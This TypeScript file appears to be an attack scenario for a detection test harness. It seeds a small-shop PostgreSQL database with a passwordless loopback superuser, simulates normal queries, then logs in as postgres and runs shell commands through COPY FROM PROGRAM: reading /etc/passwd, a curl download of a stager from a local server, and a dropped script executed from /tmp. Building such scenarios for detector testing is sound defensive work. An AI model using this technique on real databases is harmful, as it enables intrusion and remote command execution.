/**
 * PostgreSQL 15 behind a small shop: the application connects as its own
 * role, but the superuser is trusted from loopback without a password, as
 * in the misconfigured databases that PostgreSQL-targeting malware (PGMiner
 * and its kin) scans for. The attack logs in as postgres and runs shell
 * commands through COPY ... FROM PROGRAM: the backend, which never starts
 * a program in normal use, forks /bin/sh for each of them.
 */
import type { Prng } from '../../detect/lib/prng.js';
import { PgClient } from '../clients/postgres.js';
import type { Scenario, ScenarioContext } from '../types.js';

const BIN = '/usr/lib/postgresql/15/bin';
const DATA = '/var/lib/postgresql/app';
const AS_POSTGRES = ['setpriv', '--reuid', 'postgres', '--regid', 'postgres', '--init-groups'];

const CITIES = ['Lisbon', 'Oslo', 'Gdansk', 'Lyon', 'Porto', 'Turin', 'Ghent', 'Brno'];
const STATUSES = ['new', 'paid', 'shipped', 'returned'];
const WORDS = ['kettle', 'teapot', 'mug', 'saucer', 'spoon', 'strainer', 'caddy', 'cosy', 'tray', 'timer', 'infuser', 'scale'];

const SCHEMA = `
CREATE ROLE app LOGIN;
CREATE DATABASE app OWNER app;
\\c app app
CREATE TABLE customers (id serial PRIMARY KEY, name text NOT NULL, email text NOT NULL, city text NOT NULL, created_at timestamptz NOT NULL DEFAULT now());
CREATE TABLE products (id serial PRIMARY KEY, name text NOT NULL, price numeric(8,2) NOT NULL, stock int NOT NULL);
CREATE TABLE orders (id serial PRIMARY KEY, customer_id int NOT NULL REFERENCES customers, product_id int NOT NULL REFERENCES products, qty int NOT NULL, status text NOT NULL, created_at timestamptz NOT NULL DEFAULT now());
CREATE INDEX orders_customer ON orders (customer_id);
INSERT INTO customers (name, email, city)
  SELECT 'customer' || i, 'c' || i || '@example.org', (ARRAY[${CITIES.map((c) => `'${c}'`).join(',')}])[1 + i % ${CITIES.length}] FROM generate_series(1, 200) i;
INSERT INTO products (name, price, stock)
  SELECT (ARRAY[${WORDS.map((w) => `'${w}'`).join(',')}])[1 + i % ${WORDS.length}] || ' ' || i, 2 + (i * 37 % 400) / 10.0, 50 + i % 70 FROM generate_series(1, 120) i;
INSERT INTO orders (customer_id, product_id, qty, status)
  SELECT 1 + i % 200, 1 + (i * 7) % 120, 1 + i % 4, (ARRAY['new','paid','shipped','returned'])[1 + i % 4] FROM generate_series(1, 2000) i;
`;

// initdb and the seed data at build time, so the container starts in about a second.
const SETUP = `
mkdir -p ${DATA}
chown postgres:postgres ${DATA}
${AS_POSTGRES.join(' ')} ${BIN}/initdb -D ${DATA} -A trust -U postgres -E UTF8 --locale=C --no-sync >/dev/null
${AS_POSTGRES.join(' ')} ${BIN}/pg_ctl -D ${DATA} -w -l /tmp/seed.log -o "-c listen_addresses='' -k /tmp" start >/dev/null
${AS_POSTGRES.join(' ')} ${BIN}/psql -X -q -v ON_ERROR_STOP=1 -h /tmp -U postgres -d postgres -f /srv/schema.sql
${AS_POSTGRES.join(' ')} ${BIN}/pg_ctl -D ${DATA} -w stop >/dev/null
rm -f /tmp/seed.log
`;

const sqlText = (s: string) => `'${s.replace(/'/g, "''")}'`;

export const postgresCopy: Scenario = {
  name: 'postgres-copy',
  application: 'PostgreSQL 15 for a small shop (superuser trusted from loopback)',
  attackKind: 'superuser login → COPY FROM PROGRAM command execution',
  attack: 'an attacker logs in as the passwordless superuser and runs shell commands through COPY ... FROM PROGRAM: reconnaissance, then a dropped script started from /tmp',
  image: {
    name: 'postgres-copy',
    packages: ['postgresql-15'],
    files: { '/srv/schema.sql': SCHEMA },
    setup: SETUP,
  },
  command: (ctx) => [...AS_POSTGRES, `${BIN}/postgres`, '-D', DATA, '-c', 'listen_addresses=127.0.0.1', '-p', String(ctx.port), '-k', '/tmp'],
  async ready(ctx) {
    const c = await PgClient.connect({ port: ctx.port, user: 'app', database: 'app', timeoutMs: 2000 });
    try {
      await c.query('SELECT 1');
    } finally {
      c.close();
    }
  },
  async session(ctx: ScenarioContext, rng: Prng) {
    const c = await PgClient.connect({ port: ctx.port, user: 'app', database: 'app' });
    const q = (sql: string) => {
      ctx.log(sql);
      return c.query(sql);
    };
    try {
      const customer = 1 + rng.int(200);
      const steps = 1 + rng.int(5);
      for (let i = 0; i < steps && !ctx.signal.aborted; i++) {
        const pick = rng.float();
        if (pick < 0.2) await q(`SELECT id, name, price FROM products WHERE price < ${5 + rng.int(40)} AND stock > 0 ORDER BY price LIMIT ${5 + rng.int(20)}`);
        else if (pick < 0.35) await q(`SELECT id, name, price, stock FROM products WHERE name LIKE ${sqlText(`${WORDS[rng.int(WORDS.length)]!}%`)}`);
        else if (pick < 0.5) await q(`SELECT o.id, p.name, o.qty, o.status FROM orders o JOIN products p ON p.id = o.product_id WHERE o.customer_id = ${customer} ORDER BY o.created_at DESC LIMIT 10`);
        else if (pick < 0.6) await q(`SELECT name, email FROM customers WHERE city = ${sqlText(CITIES[rng.int(CITIES.length)]!)} ORDER BY name LIMIT ${10 + rng.int(30)}`);
        else if (pick < 0.68) await q(`SELECT status, count(*), sum(qty) FROM orders WHERE created_at > now() - interval '${1 + rng.int(30)} days' GROUP BY status`);
        else if (pick < 0.8) {
          // Checkout: the order and the stock change together.
          const product = 1 + rng.int(120);
          const qty = 1 + rng.int(3);
          await q('BEGIN');
          await q(`INSERT INTO orders (customer_id, product_id, qty, status) VALUES (${customer}, ${product}, ${qty}, 'new') RETURNING id`);
          await q(`UPDATE products SET stock = stock - ${qty} WHERE id = ${product} AND stock >= ${qty}`);
          await q(rng.float() < 0.9 ? 'COMMIT' : 'ROLLBACK');
        } else if (pick < 0.9) await q(`UPDATE orders SET status = ${sqlText(STATUSES[1 + rng.int(3)]!)} WHERE id = (SELECT min(id) FROM orders WHERE status = 'new' AND customer_id = ${customer})`);
        else if (pick < 0.95) await q(`UPDATE products SET stock = stock + ${10 + rng.int(40)} WHERE id = ${1 + rng.int(120)}`);
        else await q(`UPDATE customers SET email = ${sqlText(`c${customer}.${rng.int(1000)}@example.org`)} WHERE id = ${customer}`);
      }
    } finally {
      c.close();
    }
  },
  async attackRun(ctx, rng) {
    const c = await PgClient.connect({ port: ctx.port, user: 'postgres', database: 'postgres', timeoutMs: 10_000 });
    const q = (sql: string) => {
      ctx.log(sql);
      return c.query(sql);
    };
    try {
      await q('SELECT version(), current_user, (SELECT rolsuper FROM pg_roles WHERE rolname = current_user)');
      const table = `t${rng.int(1_000_000)}`;
      await q(`DROP TABLE IF EXISTS ${table}; CREATE TABLE ${table} (line text)`);
      // Each command's output lands in the table, then is read back and cleared.
      const exec = async (cmd: string) => {
        try {
          await q(`COPY ${table} FROM PROGRAM ${sqlText(cmd)}; SELECT line FROM ${table}; TRUNCATE ${table}`);
        } catch {
          // A failed command (no curl, a non-zero exit) is part of the attack too.
        }
      };
      const recon = ['id', 'uname -a', 'cat /etc/passwd', 'nproc', 'cat /proc/meminfo | head -n 3', 'ls -la /var/lib/postgresql'];
      for (const cmd of rng.shuffle([0, 1, 2, 3, 4, 5]).slice(0, 3 + rng.int(3))) await exec(recon[cmd]!);
      const name = `.${['pg', 'sys', 'kdev'][rng.int(3)]!}${rng.int(100)}`;
      // The download points at a staging server of the scenario's own on loopback, which answers 404 (a taken-down stager).
      const stager = await ctx.listen();
      void stager.nextConnection(15_000).then((s) => s.end('HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n'), () => {});
      await exec(`curl -fsSL http://127.0.0.1:${stager.port}/${name}.sh -o /tmp/${name} || echo no-curl`);
      await exec(`printf '%s\\n' '#!/bin/sh' 'echo $$ > /tmp/${name}.pid' 'cat /proc/cpuinfo | grep -c processor' > /tmp/${name} && chmod +x /tmp/${name} && /tmp/${name}`);
      await q(`DROP TABLE ${table}`);
    } finally {
      c.close();
    }
  },
  evidence: ['execve', 'pipe2', 'wait4'],
};
